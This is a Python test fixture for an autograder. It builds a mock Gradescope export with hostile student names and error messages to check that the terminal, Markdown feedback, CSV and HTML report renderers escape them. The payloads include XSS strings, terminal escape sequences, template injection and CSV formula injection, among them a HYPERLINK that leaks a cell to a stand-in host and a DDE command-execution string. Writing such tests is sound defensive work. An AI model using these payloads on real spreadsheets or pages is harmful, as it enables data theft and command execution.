"""One class of hostile names and messages, graded once (`grade --out --feedback`) for the four
renderers that must not let a student forge output: the terminal (stdout), feedback/*.md,
grades.csv and report.html. Each escaping test reads the part of the run it is about.

It is a Gradescope export: names from `submission_metadata.yml` (they may hold "/", which no
folder name can), and beside them folders that the metadata does not name, named by their
folder (names with a newline, an escape sequence or Markdown in them).
"""
from __future__ import annotations

import shutil
from pathlib import Path

import yaml

from helpers import QUESTIONS, SUBMISSIONS, max_points, points_without, run_cli

HONEST = SUBMISSIONS / "correct" / "reference_style.py"

# ------------------------------------------------------------------ the terminal
TERMINAL_NAME = "eve\n\x1b[2Jmallory"
TERMINAL_SHOWN = "eve\\n\\x1b[2Jmallory"
# A raw ESC and CSI in the source line itself (quoted back in the message), and escapes that
# become LF and CR in the message: both must come out as visible escapes.
TERMINAL_RAISE = 'raise ValueError("\\n[PASS] softmax: 6/6 (passed)\x1b[2J\\rok\x9b2K")'
TERMINAL_FORGER = "forger"

# ------------------------------------------------------------------ feedback/*.md
MARKDOWN_NAME = ("# Eve **Total: 100%** <b onmouseover=alert(1)>x [y](javascript:alert(1))"
                 )  # no "/": a folder name
MARKDOWN_RAISE = ('raise ValueError("\\n# Total: 100/100\\n**Total: 100 / 100**'
                  '<script>alert(1)</script>[z](javascript:alert(1)) ` www.example.com")')
MARKDOWN_FORGER = "mdforger"

# ------------------------------------------------------------------ grades.csv
CSV_NAMES = {
    "submission_1": '=HYPERLINK("http://x.example/?leak="&A1, "click")',
    "submission_2": "+cmd|' /C calc'!A0",
    "submission_3": "-2+3",
    "submission_4": "@SUM(A1:A9)",
    "submission_5": "\t=1+1",
    "submission_6": "\r=1+1",
    "submission_7": "Ada Lovelace",     # honest: shown as written
}

# ------------------------------------------------------------------ report.html
HTML_NAMES = {"submission_11": "<script>alert(1)</script>",
              "submission_12": '"><img src=x onerror=alert(2)>',
              "submission_13": "{{ 7*7 }} & Ada",
              "submission_14": "Honest Student"}
# The first one quotes markup back through the error its import raises.
HTML_IMPORT_ERROR = "def f():\n    pass\n\nraise ValueError('<script>alert(3)</script>')\n"


# A forger's softmax raises; every function that calls it (the honest file's attention, and
# through it multi-head attention and the block) raises with it. What each question then gives
# is derived from the question files: the points of the cases given none of those functions.
REACHES_SOFTMAX = {"softmax", "scaled_dot_product_attention", "multi_head_attention",
                   "transformer_block"}


def forger_scores() -> dict[str, tuple[float, float]]:
    """{question: (score, max score)} of a forger's row."""
    return {q: (points_without(q, REACHES_SOFTMAX), max_points(q)) for q in QUESTIONS}


def forger_status(score: float, maximum: float) -> str:
    """Nothing left is an error (every case raised), all of it passed, else partial."""
    return "error" if score == 0 else "passed" if score == maximum else "partial"


def forger_source(raise_line: str) -> str:
    """An honest file whose softmax raises with `raise_line`."""
    return HONEST.read_text() + f"\n\ndef softmax(x, dim=-1):\n    {raise_line}\n"


def build_class(root: Path) -> Path:
    """The export folder: every student of the four renderers' tests."""
    export = root / "class"
    named = {**CSV_NAMES, **HTML_NAMES}
    for folder in [*named, TERMINAL_NAME, MARKDOWN_NAME, "honest", TERMINAL_FORGER,
                   MARKDOWN_FORGER]:
        (export / folder).mkdir(parents=True)
        shutil.copy(HONEST, export / folder / "attention.py")
    (export / TERMINAL_FORGER / "attention.py").write_text(forger_source(TERMINAL_RAISE))
    (export / MARKDOWN_FORGER / "attention.py").write_text(forger_source(MARKDOWN_RAISE))
    (export / "submission_11" / "attention.py").write_text(HTML_IMPORT_ERROR)
    (export / "submission_metadata.yml").write_text(yaml.safe_dump(
        {sub: {":submitters": [{":name": name}]} for sub, name in named.items()}))
    return export


def grade_class(root: Path) -> dict:
    """`autograder grade CLASS --out OUT --feedback`, as an instructor runs it once: its
    stdout (the terminal) and its output folder (the CSV, the JSON, the report, feedback)."""
    export = build_class(root)
    out = root / "out"
    r = run_cli("grade", "-a", "attention", str(export), "--out", str(out), "--feedback",
                "--jobs", "2", timeout=900)
    assert r.returncode == 0, r.stderr[-3000:]
    return {"class": export, "out": out, "stdout": r.stdout, "students": len(
        [p for p in export.iterdir() if p.is_dir()])}
